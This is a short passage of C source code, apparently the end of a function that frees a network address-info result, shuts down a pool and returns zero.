	if (lg.ai)
		freeaddrinfo(lg.ai);
	lg_pool_fini(&lg.pool);
	return 0;
}
